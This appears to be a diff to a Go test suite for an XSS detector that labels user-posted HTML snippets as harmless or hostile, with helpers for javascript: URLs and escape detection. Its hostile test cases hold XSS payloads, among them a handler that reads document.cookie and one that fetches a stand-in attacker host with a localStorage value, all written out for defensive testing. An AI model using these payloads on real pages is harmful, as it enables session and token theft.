@@ -24,6 +24,11 @@ func TestXSSCalmMarkup(t *testing.T) {
 		{"svg icon", `<svg width="16" height="16" viewBox="0 0 16 16" fill="none"><circle cx="8" cy="8" r="7"/></svg>`, false},
 		{"video frame", `<iframe src="https://player.vimeo.com/video/12345" width="640" allowfullscreen></iframe> 어떻게 반응형으로?`, false},
 		{"mail layout", `<table cellpadding="0" style="width:100%;font-family:Helvetica,sans-serif"><tr><td style="padding:8px 0;color:#555">Hi</td></tr></table> Outlook ignores padding`, false},
+		{"stylesheet element", "<style>\n.card > h2 { margin: 0; color: #222 }\n</style> ne s'applique pas", false},
+		{"void link driven by a handler", `<a href="javascript:void(0)" onclick="nextSlide()">›</a> — bad practice?`, false},
+		{"calm handler beside typographic marks", `<a href="#" onclick="prevSlide()">‹</a> “why” — it scrolls`, false},
+		{"calm handler beside quoted HTML", `&lt;div onClick={handleClick}&gt; vs &lt;div onClick={() =&gt; handleClick()}&gt;`, false},
+		{"entity-encoded handler", `<a href="#" onclick="&#115;ubmit()">x</a>`, true},
 		{"handler reaching alert", `<li onClick={() => alert(document.cookie)}>x</li>`, true},
 		{"quoted handler fetching", `<a href="#" onclick="fetch('//evil.example/'+localStorage.t)">go</a>`, true},
 		{"handler with template call", `<b onmouseover="alert` + "`1`" + `">x</b>`, true},
@@ -37,6 +42,9 @@ func TestXSSCalmMarkup(t *testing.T) {
 		{"local script with inline code", `<script src="app.js">fetch('/x')</script>`, true},
 		{"legacy element behind a JSX value", `<xml id="i" src="island.htc" k={v}></xml>`, true},
 		{"frame of a script URL", `<iframe src="javascript:alert(1)"></iframe>`, true},
+		{"stylesheet loading script", `<style>body { background: url(javascript:alert(1)) }</style>`, true},
+		{"stylesheet with an import", `<style>@import '//evil.example/x.css';</style>`, true},
+		{"void link that goes on", `<a href="javascript:void(0);alert(document.domain)">x</a>`, true},
 		{"style with expression", `<div style="width:expression(alert(1))">x</div>`, true},
 	}
 	for _, tt := range tests {
@@ -81,6 +89,46 @@ func TestCalmCode(t *testing.T) {
 	for _, tt := range tests {
 		if got := calmCode(tt.code); got != tt.want {
 			t.Errorf("calmCode(%q) = %v, want %v", tt.code, got, tt.want)
+		}
+	}
+}
+
+// TestInertScriptURL checks which javascript: URLs do nothing.
+func TestInertScriptURL(t *testing.T) {
+	tests := []struct {
+		s    string
+		want bool
+	}{
+		{`javascript:void(0)"`, true},
+		{"javascript:;", true},
+		{"javascript:void(0)+alert(1)", false},
+		{"javascript:;alert(1)", false},
+		{"javascript:alert(1)", false},
+	}
+	for _, tt := range tests {
+		if got := inertScriptURL(tt.s); got != tt.want {
+			t.Errorf("inertScriptURL(%q) = %v, want %v", tt.s, got, tt.want)
+		}
+	}
+}
+
+// TestHasEscapes checks which raw texts count as escaped.
+func TestHasEscapes(t *testing.T) {
+	tests := []struct {
+		s    string
+		want bool
+	}{
+		{"a&#97;b", true},
+		{"x%3cy", true},
+		{`\x3c`, true},
+		{"alert&lpar;1&rpar;", true},
+		{"&lt;b&gt; &amp; &quot;", false},
+		{"100% sure — “quoted” ›", false},
+		{"AT&T; R&D", false},
+	}
+	for _, tt := range tests {
+		if got := hasEscapes(tt.s); got != tt.want {
+			t.Errorf("hasEscapes(%q) = %v, want %v", tt.s, got, tt.want)
 		}
 	}
 }
